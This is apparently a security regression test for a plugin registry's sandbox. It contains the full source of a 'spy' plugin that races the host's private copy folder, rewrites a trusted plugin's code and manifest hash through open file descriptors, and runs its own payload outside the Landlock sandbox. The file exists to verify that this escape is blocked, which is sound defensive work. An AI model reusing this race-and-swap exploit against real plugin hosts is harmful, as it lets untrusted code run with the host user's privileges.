// audit s10b (→ packages/registry/test/; root test machine: the host runs as `nobody` through setpriv): on a host that
// is not root every sandbox runs as the host's own uid. A Landlock-sandboxed untrusted plugin granted read-write a
// folder that holds the host's TMPDIR (here: the TMPDIR itself) can therefore write into the host's *own* private
// folders there — the private copy a trusted process-tier plugin is started from (`plugward-copy-<host tag>-…`, 0500,
// this uid's: its owner may chmod it back). The plugin process reads the copy's manifest and hashes the copy against
// *that* manifest, so a rewritten pair is loaded as the trusted plugin: code of the untrusted plugin runs unsandboxed,
// as the host user. Expected: the trusted plugin answers as itself and nothing of the spy's runs outside its sandbox.
import fs from 'node:fs';
import path from 'node:path';
import { saveTrustList, toHex } from '@plugward/security';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { Fixtures, NO_GRANTS, runAsNobody, tempDir } from './helpers.js';

const tmp = tempDir('audit-copy-swap');
const fx = new Fixtures(tmp.dir);
let spy = '';
let victim = '';
let listPath = '';
const home = path.join(tmp.dir, 'home');
const work = path.join(home, 'work');

const VICTIM = `export default {
  name: 'victim', version: '1.0.0', author: 'audit',
  init() {},
  registerHooks(h) { h.register('audit.who', 100, () => new TextEncoder().encode('victim')); },
};
`;

// The spy (Landlock, same uid as the host, read-write in the host's TMPDIR; chmod is denied to it) watches that folder:
// when the host makes a private copy folder (0700 until filled), it creates the two file names there first and keeps
// them open; the host's writeFile (O_TRUNC, no O_EXCL) fills the spy's files, the folder goes 0500 — and the spy
// rewrites both through its open descriptors before the plugin process reads them.
const SPY = `import fs from 'node:fs';
import path from 'node:path';
import { createHash } from 'node:crypto';
const payload = (home) => "import fs from 'node:fs';\\n" +
  "export default { name: 'victim', version: '1.0.0', author: 'audit', init() {},\\n" +
  "  registerHooks(h) { h.register('audit.who', 100, () => {\\n" +
  "    let seen = ''; try { fs.writeFileSync(" + JSON.stringify(home + '/PWNED') + ", 'outside the sandbox'); seen = fs.readdirSync(" + JSON.stringify(home) + ").join(','); } catch (e) { seen = 'ERR ' + e.code; }\\n" +
  "    return new TextEncoder().encode('PWNED uid ' + process.getuid() + ' wrote in ' + " + JSON.stringify(home) + " + ': ' + seen); }); } };\\n";
let done = 0; let planted = 0; const errs = [];
const pending = [];
export default {
  name: 'spy', version: '1.0.0', author: 'a stranger',
  init() {},
  registerHooks(h) {
    h.register('audit.arm', 300, (d) => {
      const dir = new TextDecoder().decode(d);
      const seen = new Set();
      const plant = () => {
        let names = [];
        try { names = fs.readdirSync(dir); } catch (e) { return; }
        for (const n of names) {
          if (!n.startsWith('plugward-copy-') || seen.has(n)) continue;
          seen.add(n);
          const copy = path.join(dir, n);
          try {
            const a = fs.openSync(path.join(copy, 'victim.mjs'), 'wx+', 0o600);
            const m = fs.openSync(path.join(copy, 'victim.mjs.plugward.json'), 'wx+', 0o600);
            pending.push({ a, m });
            planted++;
          } catch (e) { errs.push(e.code ?? e.message); }
        }
      };
      const swap = () => {
        for (const p of pending.splice(0)) {
          let text = '';
          try {
            const buf = Buffer.alloc(65536);
            text = buf.subarray(0, fs.readSync(p.m, buf, 0, buf.length, 0)).toString('utf8');
            const manifest = JSON.parse(text);
            const bytes = Buffer.from(payload(path.dirname(dir)));
            manifest.artifact.sha3_512 = createHash('sha3-512').update(bytes).digest('hex');
            manifest.artifact.size = bytes.length;
            const out = Buffer.from(JSON.stringify(manifest));
            fs.ftruncateSync(p.a, 0); fs.writeSync(p.a, bytes, 0, bytes.length, 0);
            fs.ftruncateSync(p.m, 0); fs.writeSync(p.m, out, 0, out.length, 0);
            fs.closeSync(p.a); fs.closeSync(p.m);
            done++;
          } catch { pending.push(p); }
        }
      };
      try { fs.watch(dir, () => plant()); } catch (e) { errs.push('watch ' + (e.code ?? e.message)); }
      setInterval(() => { plant(); swap(); }, 1);
      return new TextEncoder().encode('armed');
    });
    h.register('audit.count', 300, () => new TextEncoder().encode('planted ' + planted + ' swapped ' + done + ' ' + errs.join(',')));
  },
};
`;

const HOST = `const { PluginRegistry, PluginSecurity, LandlockSandbox } = await import(process.env.DIST);
const security = new PluginSecurity({ onlyTrusted: false, trustListPath: process.env.LIST, rollbackFloorDir: false }, [process.env.PUB]);
await security.loadAndDecryptTrustList(process.env.LIST_KEY);
// A non-root host here has no cgroup and no noexec mount: both allowed, neither matters to what is tested.
const sandbox = new LandlockSandbox({ allowNoCgroup: true, allowExecutableScratch: true });
const work = process.env.TMPDIR;
const registry = new PluginRegistry({
  security,
  sandbox,
  policy: { onlyTrusted: false },
  tierOverrides: { victim: 'process' },
  grants: { plugins: { spy: { filesystem: { mode: 'readWrite', paths: [work] }, hooks: [{ name: 'audit.arm' }, { name: 'audit.count' }] } } },
  log: () => {},
});
const dec = new TextDecoder();
await registry.loadPlugin(process.env.SPY, 'untrusted');
const armed = dec.decode(await registry.hooks.execute('audit.arm', new TextEncoder().encode(work)));
const answers = [];
for (let i = 0; i < 20; i++) {
  await registry.loadPlugin(process.env.VICTIM, 'trusted');
  answers.push(dec.decode(await registry.hooks.execute('audit.who', new Uint8Array())));
  await registry.unloadPlugin('victim');
}
const swapped = dec.decode(await registry.hooks.execute('audit.count', new Uint8Array()));
console.log(JSON.stringify({ uid: process.getuid(), armed, answers, swapped, grants: registry.getPluginInfo('spy').grants }));
await registry.close();
`;

beforeAll(async () => {
  fs.chmodSync(tmp.dir, 0o755);
  spy = await fx.js('spy.mjs', SPY, {
    name: 'spy',
    kind: 'js',
    keys: fx.stranger,
    requirements: { ...NO_GRANTS(), filesystem: { mode: 'readWrite', paths: [work] } },
  });
  victim = await fx.js('victim.mjs', VICTIM, { name: 'victim', kind: 'js' });
  await fx.trust(victim);
  listPath = path.join(tmp.dir, 'trust.enc');
  await saveTrustList(listPath, { listVersion: 1, entries: [...fx.entries] }, fx.listKey);
  for (const f of fs.readdirSync(tmp.dir)) fs.chmodSync(path.join(tmp.dir, f), 0o755);
}, 60_000);
afterAll(() => tmp.remove());

it('a same-uid sandboxed plugin granted the host TMPDIR does not replace a trusted process-tier plugin', (ctx) => {
  if (process.getuid?.() !== 0)
    return ctx.skip('the test runs its host as nobody through setpriv (needs root)');
  fs.mkdirSync(work, { recursive: true, mode: 0o700 });
  fs.chownSync(home, 65534, 65534);
  fs.chownSync(work, 65534, 65534);
  fs.chmodSync(home, 0o700);
  const hostFile = path.join(tmp.dir, 'host.mjs');
  fs.writeFileSync(hostFile, HOST, { mode: 0o644 });
  const { stdout, failure } = runAsNobody(
    hostFile,
    {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: home,
      TMPDIR: work,
      SPY: spy,
      VICTIM: victim,
      LIST: listPath,
      LIST_KEY: fx.listKey,
      PUB: toHex(fx.publisher.publicKey),
      DIST: path.resolve(import.meta.dirname, '../dist/index.js'),
    },
    90_000,
  );
  const report = stdout.split('\n').find((l) => l.startsWith('{'));
  console.log('REPORT', report, failure);
  expect({ report: report && JSON.parse(report), failure }, stdout).toMatchObject({
    report: { uid: 65534, armed: 'armed', answers: Array(20).fill('victim') },
    failure: '',
  });
  expect(fs.existsSync(path.join(home, 'PWNED'))).toBe(false);
}, 120_000);
